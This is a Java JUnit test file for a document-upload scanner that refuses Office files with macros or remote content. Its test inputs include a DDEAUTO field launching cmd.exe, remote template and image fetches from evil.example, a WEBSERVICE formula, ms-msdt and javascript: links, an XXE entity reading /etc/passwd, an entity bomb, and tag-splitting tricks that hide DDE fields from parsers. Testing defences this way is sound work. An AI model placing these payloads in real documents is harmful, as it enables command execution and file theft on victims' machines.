package org.sluis.inspection;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.sluis.inspection.parsing.Objection;
import org.sluis.inspection.parsing.Rule;
import org.sluis.kernel.Problem;

/** Office documents: they show something, and neither run nor fetch anything (security rows F4 and F6 to F8). */
class OfficeDocumentsTest {

    private final Laboratory laboratory = Laboratory.shared();

    @Test
    void wordDocumentPassesAndEachPartIsScanned() {
        byte[] document = new WordDocument()
                .external("hyperlink", "https://example.org/x")
                .bytes();
        Inspection found = laboratory.inspect("letter.docx", document);
        assertThat(found.refusal()).isEmpty();
        assertThat(found.mediaType())
                .isEqualTo("application/vnd.openxmlformats-officedocument.wordprocessingml.document");
        assertThat(laboratory.scanned()).hasSize(5).contains(document.length);
        assertThat(laboratory.refusal("letter.xlsx", document)).contains(Problem.TYPE_MISMATCH);
        assertThat(laboratory.refusal("letter.zip", document)).contains(Problem.TYPE_MISMATCH);
    }

    @Test
    void malwareInAPartIsNamed() {
        byte[] document =
                new WordDocument().part("word/media/x.txt", Laboratory.MALWARE).bytes();
        assertThat(laboratory.refusal("letter.docx", document)).contains(Problem.MALWARE_FOUND);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "word/vbaProject.bin",
                "word/vbaData.xml",
                "word/activeX/activeX1.xml",
                "xl/macrosheets/sheet1.xml",
                "WORD/VBAPROJECT.BIN"
            })
    void macrosByName(String part) {
        assertThat(laboratory.refusal(
                        "a.docx", new WordDocument().part(part, "<a/>").bytes()))
                .contains(Problem.ACTIVE_CONTENT);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "application/vnd.ms-word.document.macroEnabled.main+xml",
                "application/vnd.ms-excel.sheet.binary.macroEnabled.main",
                "application/vnd.ms-office.vbaProject",
                "application/vnd.ms-excel.macrosheet+xml",
                "application/vnd.ms-office.activeX+xml"
            })
    void macrosByDeclaration(String type) {
        assertThat(laboratory.refusal(
                        "a.docx", new WordDocument().mainType(type).bytes()))
                .contains(Problem.ACTIVE_CONTENT);
        assertThat(laboratory.refusal(
                        "a.docx", new WordDocument().declared("/x.bin", type).bytes()))
                .contains(Problem.ACTIVE_CONTENT);
    }

    @ParameterizedTest
    @CsvSource({
        "attachedTemplate,https://evil.example/t.dotm",
        "oleObject,file://server/share/x.docx",
        "image,\\\\server\\share\\x.png",
        "image,http://evil.example/pixel.png",
        "frame,https://evil.example/",
        "subDocument,file:///C:/x.docx",
        "externalLinkPath,https://evil.example/x.xlsx",
        "hyperlink,\\\\server\\share\\x.docx",
        "hyperlink,file://server/x.docx",
        "hyperlink,javascript:alert(1)",
        "hyperlink,ms-msdt:/id"
    })
    void linksThatAreFetchedAndLinksToShares(String kind, String target) {
        assertThat(laboratory.refusal(
                        "a.docx", new WordDocument().external(kind, target).bytes()))
                .contains(Problem.ACTIVE_CONTENT);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"http://example.org", "mailto:a@example.org", "#place", "..\\other.docx", "file:///C:\\x.docx"})
    void ordinaryHyperlinksPass(String target) {
        assertThat(laboratory.refusal(
                        "a.docx",
                        new WordDocument().external("hyperlink", target).bytes()))
                .isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<w:fldSimple w:instr='DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"'/>",
                "<w:r><w:fldChar w:fldCharType='begin'/><w:instrText>DD</w:instrText><w:instrText>E cmd</w:instrText>"
                        + "<w:fldChar w:fldCharType='end'/></w:r>",
                "<w:r><w:instrText> INCLUDEPICTURE \"http://evil.example/x.png\" </w:instrText><w:fldChar w:fldCharType='end'/></w:r>",
                "<w:pict><v:imagedata src='http://evil.example/x.png'/></w:pict>",
                "<w:f>WEBSERVICE(\"http://evil.example\")</w:f>",
                "<w:ddeLink ddeService='cmd'/>"
            })
    void fieldsAndFormulasThatFetchOrRun(String body) {
        assertThat(laboratory.refusal("a.docx", new WordDocument().body(body).bytes()))
                .contains(Problem.ACTIVE_CONTENT);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<w:fldSimple w:instr=' PAGE '/>",
                "<w:r><w:fldChar w:fldCharType='begin'/><w:instrText> HYPERLINK \"https://example.org\" </w:instrText>"
                        + "<w:fldChar w:fldCharType='separate'/><w:fldChar w:fldCharType='end'/></w:r>",
                "<w:f>SUM(A1:A2)</w:f>"
            })
    void ordinaryFieldsPass(String body) {
        assertThat(laboratory.refusal("a.docx", new WordDocument().body(body).bytes()))
                .isEmpty();
    }

    @Test
    void programsPagesAndUnknownBytesAreNoParts() {
        assertThat(laboratory.refusal(
                        "a.docx",
                        new WordDocument().part("word/media/a.bin", "MZ\0\0").bytes()))
                .contains(Problem.ACTIVE_CONTENT);
        assertThat(laboratory.refusal(
                        "a.docx",
                        new WordDocument().part("word/afchunk.htm", "<html><p>").bytes()))
                .contains(Problem.TYPE_NOT_ALLOWED);
        byte[] unknown = {1, 2, 3, 0, 5};
        assertThat(laboratory.refusal(
                        "a.docx",
                        new WordDocument().part("word/media/x.bin", unknown).bytes()))
                .contains(Problem.TYPE_NOT_ALLOWED);
        assertThat(laboratory.refusal(
                        "a.docx",
                        new WordDocument()
                                .part("word/printerSettings1.bin", unknown)
                                .bytes()))
                .isEmpty();
    }

    @Test
    void entitiesAndDocumentTypesAreNotRead() {
        String bomb = "<!DOCTYPE a [<!ENTITY b 'x'><!ENTITY c '&b;&b;'>]><a>&c;</a>";
        String outside = "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>";
        for (String xml : new String[] {bomb, outside}) {
            assertThat(laboratory.refusal(
                            "a.docx",
                            new WordDocument()
                                    .part("word/x.xml", "<?xml version='1.0'?>" + xml)
                                    .bytes()))
                    .contains(Problem.UNREADABLE_CONTENT);
        }
    }

    @Test
    void documentWithoutItsMainPartIsNone() {
        assertThat(laboratory.refusal(
                        "a.docx", new WordDocument().mainType("application/xml").bytes()))
                .contains(Problem.TYPE_NOT_ALLOWED);
    }

    @Test
    void documentInADocumentIsTakenApart() {
        byte[] inner = new WordDocument().part("word/vbaProject.bin", "x").bytes();
        assertThat(laboratory.refusal(
                        "a.docx",
                        new WordDocument().part("word/embeddings/a.docx", inner).bytes()))
                .contains(Problem.ACTIVE_CONTENT);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '!',
            value = {
                "INCONSISTENT!instr!<w:fldSimple i:instr='x' w:instr='DDE c'/>",
                "INCONSISTENT!fldCharType!<w:fldChar i:fldCharType='x' w:fldCharType='begin'/><w:t>DDE c</w:t>",
                "DDE!DDE c!<w:instrText>D<i:instrText/>DE c</w:instrText>",
                "DDE!DDE c!<w:instrText>D<i:x>x</i:x>DE c</w:instrText>",
                "DDE!DDE c!%s<i:fldChar fldCharType='separate'/><w:t>DDE c</w:t>",
                "VARIANT!AlternateContent!%s<m:Choice><w:instrText>x</w:instrText></m:Choice><w:instrText>DDE c</w:instrText>",
                "VARIANT!AlternateContent!%s<m:Choice><w:fldChar w:fldCharType='separate'/></m:Choice><w:t>DDE c</w:t>",
                "VARIANT!AlternateContent!<m:Fallback>%s</m:Fallback><w:t>DDE c</w:t>",
                "DDE!DDE c!%s<i:t>x</i:t><w:instrText>DDE c</w:instrText>",
                "DDE!DDE c!%s<w:del><w:delInstrText>x</w:delInstrText></w:del><w:instrText>DDE c</w:instrText>",
                "DDE!DDE c!%s<w:instrText>D</w:instrText><w:del><w:t>x</w:t></w:del><w:instrText>DE c</w:instrText>",
                "DDE!DDE c!%s<w:del><w:fldChar w:fldCharType='separate'/></w:del><w:t>DDE c</w:t>",
                "DDE!DDE c!%s<w:instrText>D</w:instrText><w:moveFrom><w:fldChar w:fldCharType='begin'/></w:moveFrom><w:instrText>DE c</w:instrText>",
                "FETCHING_FORMULA!WEBSERVICE!<x:f>WEB<i:x>x</i:x>SERVICE(A1)</x:f>",
                "INCONSISTENT!!<HyperlinkBase>\\\\<HyperlinkBase>a</HyperlinkBase>evil\\</HyperlinkBase>",
                "REMOTE_CONTENT!@import 'https://evil.example/'!<svg><style>a { }<i:style/>@import 'https://evil.example/'</style></svg>"
            })
    void whatSomeProgramsPassOverHidesNothing(Rule rule, String subject, String body) {
        Objection objection =
                laboratory.inspect("a.docx", alternating(body)).objection().orElseThrow();
        assertThat(objection.rule()).isEqualTo(rule);
        assertThat(objection.subject()).isEqualTo(Optional.ofNullable(subject));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<m:Choice><w:p>%s<w:instrText>PAGE</w:instrText><w:fldChar w:fldCharType='end'/></w:p></m:Choice>",
                "%s<w:instrText>PAGE</w:instrText><m:Choice><w:p><w:r/></w:p></m:Choice>",
                "%s<w:instrText>P</w:instrText><w:del><w:delInstrText>D</w:delInstrText></w:del><w:instrText>AGE</w:instrText>",
                "<x:formula1> <x:f>A1</x:f> </x:formula1>",
                "<a:t>DDE c</a:t><w:t>DDE c</w:t>"
            })
    void ordinaryAlternativesAndChangesPass(String body) {
        assertThat(laboratory.inspect("a.docx", alternating(body)).objection()).isEmpty();
    }

    private static byte[] alternating(String body) {
        return new WordDocument()
                .body("<w:x xmlns:i='urn:ignored' xmlns:x='x' xmlns:a='a'"
                        + " xmlns:m='http://schemas.openxmlformats.org/markup-compatibility/2006'>"
                        + body.replace("%s", "<w:fldChar w:fldCharType='begin'/>") + "</w:x>")
                .bytes();
    }
}
